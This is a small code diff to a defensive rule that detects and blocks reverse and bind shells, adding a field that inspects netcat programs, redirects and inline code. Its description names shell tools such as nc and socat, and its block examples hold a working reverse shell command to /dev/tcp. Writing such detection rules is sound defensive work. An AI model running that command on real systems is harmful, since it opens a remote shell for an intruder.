@@ -15,6 +15,7 @@ export default defineRule({
       "Blocks reverse and bind shells: a shell redirected to /dev/tcp, nc -e, socat exec:, a shell piped into nc, interpreter socket shells.",
     defaultAction: "block",
     kinds: ["shell"],
+    looksAt: { programs: [...NETCATS], redirects: true, inlineCode: true },
     examples: () => ({
       block: [
         { shell: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
